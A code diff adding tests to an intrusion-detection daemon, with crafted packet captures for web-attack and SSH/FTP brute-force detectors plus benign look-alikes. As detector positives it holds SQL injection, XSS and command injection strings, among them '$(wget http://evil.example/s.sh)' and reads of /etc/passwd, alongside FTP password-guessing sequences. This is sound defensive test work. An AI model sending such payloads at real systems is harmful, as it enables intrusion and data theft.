@@ -1,4 +1,4 @@
-"""Protocol-fact detectors (ARP spoofing, DNS spoofing, scans): crafted captures for each
+"""Protocol-fact detectors (ARP spoofing, DNS spoofing, scans, web attacks, brute force): crafted captures for each
 rule's positive and negative cases, the real attack and benign captures of ../shared,
 bounded state under a spoofed flood, and the predictions they publish through the daemon."""
 
@@ -12,11 +12,12 @@ from pathlib import Path
 import jsonschema
 import numpy as np
 import pytest
-from scapy.all import ARP, DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Ether, wrpcap
+from scapy.all import ARP, DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Ether, Raw, wrpcap
 
 from ids_daemon.capture.batch import PacketBatch, mac_to_str
 from ids_daemon.capture.pcap import PcapSource
-from ids_daemon.config import DetectorsConfig, ScanDetectorConfig, load_config
+from ids_daemon.capture.decode import HTTP_SIGNATURES, http_signature
+from ids_daemon.config import BruteForceDetectorConfig, DetectorsConfig, ScanDetectorConfig, load_config
 from ids_daemon.detectors import DETECTOR_CLASSES, DetectorSet
 from ids_daemon.detectors.publish import RateLimiter, encode_findings
 from ids_daemon.errors import ConfigError
@@ -245,7 +246,7 @@ def test_state_is_bounded_under_a_spoofed_flood() -> None:
         b.ip_len[:] = 40
         r = ds.process(b)
         total += n
-    scan = ds.detectors[-1]
+    scan = next(d for d in ds.detectors if d.name == "scan")
     assert len(scan.pending) <= 5000 and len(scan.groups) <= 5000
     assert scan.counters["pending_evictions"] + scan.counters["group_evictions"] > 0
     assert (r.frame_class >= 0).sum() == 0  # one SYN per source: a flood, not a scan
@@ -277,6 +278,192 @@ def test_bad_detector_config_names_the_key() -> None:
         load_config(overrides={"detectors.scan.fail_ratio": 2})
     assert "detectors.scan.fail_ratio" in str(e.value) and "\n" not in str(e.value)
     assert DetectorSet(DetectorsConfig(enabled=False)).detectors == []
+
+
+# ---- web attacks -----------------------------------------------------------------------------
+CLIENT, SERVER = "10.1.0.7", "10.1.0.80"
+
+
+def tcp_conn(t0: float, client: str, server: str, cport: int, sport: int, requests: list[bytes],
+             replies: list[bytes] | None = None, step: float = 0.01) -> list:
+    """A whole TCP connection: handshake, each request and its reply, FIN both ways."""
+    c2s = lambda t, fl, data=b"": at(Ether() / IP(src=client, dst=server) / TCP(sport=cport, dport=sport, flags=fl)  # noqa: E731
+                                     / (Raw(data) if data else b""), t)
+    s2c = lambda t, fl, data=b"": at(Ether() / IP(src=server, dst=client) / TCP(sport=sport, dport=cport, flags=fl)  # noqa: E731
+                                     / (Raw(data) if data else b""), t)
+    out, t = [c2s(t0, "S"), s2c(t0 + step, "SA"), c2s(t0 + 2 * step, "A")], t0 + 3 * step
+    for k, req in enumerate(requests):
+        out.append(c2s(t, "PA", req))
+        rep = (replies or [])[k] if replies and k < len(replies) else b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+        out.append(s2c(t + step, "PA", rep))
+        t += 2 * step
+    out += [c2s(t, "FA"), s2c(t + step, "FA"), c2s(t + 2 * step, "A")]
+    return out
+
+
+def get(path: str, ua: str = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", extra: str = "") -> bytes:
+    return f"GET {path} HTTP/1.1\r\nHost: {SERVER}\r\nUser-Agent: {ua}\r\n{extra}Accept: */*\r\n\r\n".encode()
+
+
+@pytest.mark.parametrize("request_, cls", [
+    (get("/dvwa/sqli/?id=%27+or+1%3D1--+&Submit=Submit"), "SqlInjection"),
+    (get("/item.php?id=1+union+all+select+user,password+from+users"), "SqlInjection"),
+    (get("/q?id=1%27+and+sleep(5)%23"), "SqlInjection"),
+    (get("/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"), "XSS"),  # encoded twice
+    (get("/p?x=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), "XSS"),
+    (b"POST /comment HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+     b"text=%3Ciframe+src%3Djavascript%3Aalert(1)%3E", "XSS"),
+    (get("/ping.php?ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), "CommandInjection"),
+    (get("/cgi-bin/x?cmd=%7C+id"), "CommandInjection"),
+    (get("/x?u=$(wget+http://evil.example/s.sh)"), "CommandInjection"),
+    (get("/download?file=../../../../etc/passwd"), "VulnerabilityScan"),
+    (get("/index.php?page=php://filter/convert.base64-encode/resource=index"), "VulnerabilityScan"),
+    (get("/?id=%27+or+1%3D1--", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), "VulnerabilityScan"),
+    (get("/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)"), "VulnerabilityScan"),
+])
+def test_web_attack_signatures(tmp_path: Path, request_: bytes, cls: str) -> None:
+    code = http_signature(request_)
+    assert code and HTTP_SIGNATURES[code - 1][1] == cls
+    # through decode and the detector, on a non-standard port: the request and the rest of
+    # the connection (both directions) are flagged, the handshake before it is not
+    pkts = tcp_conn(0, CLIENT, SERVER, 40001, 8080, [get("/index.html"), request_])
+    b, fc, findings = run(write(tmp_path, "web.pcap", pkts))
+    assert b.http_sig[5] > 0 and b.http_sig[3] == 0
+    assert (fc[:5] == -1).all() and (fc[5:] == C[cls]).all()
+    assert findings[0].cls == cls and findings[0].attacker == CLIENT and findings[0].victim == SERVER
+
+
+def test_web_hold_covers_further_connections_then_expires(tmp_path: Path) -> None:
+    attack = tcp_conn(0, CLIENT, SERVER, 40001, 80, [get("/x?id=1%27+union+select+1,2--")])
+    later = tcp_conn(100, CLIENT, SERVER, 40002, 80, [get("/index.html")])  # within hold_s (300 s)
+    other = tcp_conn(101, "10.1.0.8", SERVER, 40003, 80, [get("/index.html")])  # another client
+    expired = tcp_conn(1000, CLIENT, SERVER, 40004, 80, [get("/index.html")])  # hold_s after the last flagged frame
+    b, fc, _ = run(write(tmp_path, "hold.pcap", attack + later + other + expired))
+    n1, n2, n3 = len(attack), len(later), len(other)
+    assert (fc[3:n1] == C["SqlInjection"]).all()
+    assert (fc[n1:n1 + n2] == C["SqlInjection"]).all()
+    assert (fc[n1 + n2:] == -1).all()
+
+
+def test_a_scanner_stays_a_vulnerability_scan(tmp_path: Path) -> None:
+    nikto = "Mozilla/5.00 (Nikto/2.1.6)"
+    pkts = tcp_conn(0, CLIENT, SERVER, 40001, 80, [get("/", ua=nikto), get("/?q=%3Cscript%3E", ua=nikto),
+                                                   get("/?x=%27+or+1%3D1--")])
+    _, fc, findings = run(write(tmp_path, "nikto.pcap", pkts))
+    assert set(fc[3:].tolist()) == {C["VulnerabilityScan"]}
+    assert {f.cls for f in findings} == {"VulnerabilityScan"}
+
+
+BENIGN_REQUESTS = [
+    get("/search?q=rock+%27n%27+roll+and+o%27reilly+books"),
+    get("/search?q=select+the+best+restaurants+from+paris"),
+    get("/login?redirect=https%3A%2F%2Fexample.com%2Fhome%3Fa%3D1&next=http://example.org/"),
+    get("/api/v1/items?order=name&sort=desc&page=2&filter=a|b"),
+    get("/static/app.js?v=3", extra="Cookie: sid=abc; id=42; theme=dark\r\nReferer: https://example.com/?q=it's\r\n"),
+    get("/wiki/Union_(set_theory)?action=view"),
+    get("/docs/script-tags-and-onload-events.html"),
+    b"POST /api/notes HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\r\n"
+    b'{"title": "Don\'t forget", "body": "buy milk; eat; sleep and repeat; select a movie from the list"}',
+    b"POST /code HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\r\n$(document).ready(function () { init(); });",
+    b"POST /upload HTTP/1.1\r\nHost: h\r\nContent-Type: application/octet-stream\r\n\r\n\x00\x01\x02binary\x00..",
+    get("/", ua="curl/8.4.0"),
+    get("/", ua="Wget/1.21.4"),
+]
+
+
+def test_benign_http_is_not_flagged(tmp_path: Path) -> None:
+    for r in BENIGN_REQUESTS:
+        assert http_signature(r) == 0, r
+    pkts = []
+    for k, r in enumerate(BENIGN_REQUESTS):
+        pkts += tcp_conn(k, CLIENT, SERVER, 41000 + k, 80, [r])
+    b, fc, findings = run(write(tmp_path, "benign_http.pcap", pkts))
+    assert (b.http_sig == 0).all() and (fc == -1).all() and not findings
+
+
+# ---- dictionary brute force ------------------------------------------------------------------
+def ssh_session(t0: float, client: str, cport: int, port: int = 22) -> list:
+    return tcp_conn(t0, client, SERVER, cport, port, [b"SSH-2.0-libssh_0.9\r\n", b"\x00\x00\x01\x0c" + b"k" * 60],
+                    [b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n", b"\x00\x00\x00\x1c" + b"r" * 24])
+
+
+def test_ssh_bruteforce_by_connections(tmp_path: Path) -> None:
+    pkts = []
+    for k in range(12):  # a new connection every 2 s
+        pkts += ssh_session(2 * k, ATTACKER, 50000 + k)
+    pkts += ssh_session(5.5, CLIENT, 40000)  # a legitimate user's session meanwhile
+    pkts.sort(key=lambda p: p.time)
+    b, fc, findings = run(write(tmp_path, "ssh.pcap", pkts))
+    att = np.array([IP in p and (p[IP].src == ATTACKER or p[IP].dst == ATTACKER) for p in pkts])
+    assert (fc[~att] == -1).all()
+    assert (fc[att] == C["DictionaryBruteForce"]).all()  # the counted connections from the first SYN on
+    assert findings[0].attacker == ATTACKER and findings[0].victim == SERVER and "connections" in findings[0].evidence
+
+
+def test_ssh_on_another_port_is_learned_from_its_banner(tmp_path: Path) -> None:
+    pkts = []
+    for k in range(10):
+        pkts += ssh_session(3 * k, ATTACKER, 50000 + k, port=2222)
+    _, fc, _ = run(write(tmp_path, "ssh2222.pcap", pkts))
+    assert (fc == C["DictionaryBruteForce"]).mean() >= 0.9
+    # with a higher threshold the same traffic is not brute force
+    cfg = DetectorsConfig(bruteforce=BruteForceDetectorConfig(connections=20))
+    _, fc, _ = run(write(tmp_path, "ssh2222b.pcap", pkts), cfg)
+    assert (fc == -1).all()
+
+
+def test_ftp_bruteforce_by_refused_logins_on_one_connection(tmp_path: Path) -> None:
+    reqs, reps = [], []
+    for k in range(7):
+        reqs += [f"USER admin\r\n".encode(), f"PASS guess{k}\r\n".encode()]
+        reps += [b"331 Please specify the password.\r\n", b"530 Login incorrect.\r\n"]
+    pkts = tcp_conn(0, ATTACKER, SERVER, 50001, 21, reqs, reps, step=0.5)
+    b, fc, findings = run(write(tmp_path, "ftp.pcap", pkts))
+    assert int((b.auth_sig == 1).sum()) == 7
+    assert (fc[3:] == C["DictionaryBruteForce"]).mean() >= 0.9
+    assert "refused logins" in findings[0].evidence
+
+
+def test_benign_logins_are_not_brute_force(tmp_path: Path) -> None:
+    pkts = []
+    for k in range(3):  # an SSH user with a few sessions
+        pkts += ssh_session(10 * k, CLIENT, 40000 + k)
+    # an FTP client with one failed and one good login
+    pkts += tcp_conn(50, CLIENT, SERVER, 41000, 21, [b"USER bob\r\n", b"PASS typo\r\n", b"USER bob\r\n", b"PASS ok\r\n"],
+                     [b"331 ok\r\n", b"530 Login incorrect.\r\n", b"331 ok\r\n", b"230 Login successful.\r\n"])
+    for k in range(15):  # a mail client polling POP3 every minute, IMAP every 45 s
+        pkts += tcp_conn(100 + 60 * k, CLIENT, SERVER, 42000 + k, 110, [b"USER bob\r\n", b"PASS pw\r\n"],
+                         [b"+OK\r\n", b"+OK logged in\r\n"])
+        pkts += tcp_conn(130 + 45 * k, CLIENT, SERVER, 43000 + k, 143, [b"a1 LOGIN bob pw\r\n"], [b"a1 OK done\r\n"])
+    pkts.sort(key=lambda p: p.time)
+    b, fc, findings = run(write(tmp_path, "logins.pcap", pkts))
+    assert int((b.auth_sig == 1).sum()) == 1  # the one refused FTP login was seen
+    assert (fc == -1).all() and not findings
+
+
+def test_bruteforce_state_is_bounded_under_a_spoofed_flood() -> None:
+    rng = np.random.default_rng(1)
+    ds = DetectorSet(DetectorsConfig(bruteforce=BruteForceDetectorConfig(max_keys=1000)))
+    for k in range(3):
+        n = 50_000
+        b = PacketBatch.empty(n)
+        b.ts[:] = 1_700_000_000.0 + k + np.arange(n) / n
+        b.ethertype[:] = 0x0800
+        b.ip_version[:] = 4
+        b.proto[:] = 6
+        b.l4_ok[:] = True
+        b.src4[:] = rng.integers(1, 2**32 - 1, n, dtype=np.uint64).astype(np.uint32)
+        b.dst4[:] = 0x0A000009
+        b.sport[:] = rng.integers(1024, 65535, n).astype(np.uint16)
+        b.dport[:] = 22
+        b.tcp_flags[:] = 2
+        b.l4_hdr_len[:] = 20
+        b.ip_hdr_len[:] = 20
+        b.ip_len[:] = 40
+        r = ds.process(b)
+    bf = next(d for d in ds.detectors if d.name == "bruteforce")
+    assert len(bf.syns) <= 1000 and bf.counters["syn_evictions"] > 0
+    assert (r.frame_class >= 0).sum() == 0  # one SYN per source: a flood, not a brute force
 
 
 # ---- real captures ---------------------------------------------------------------------------
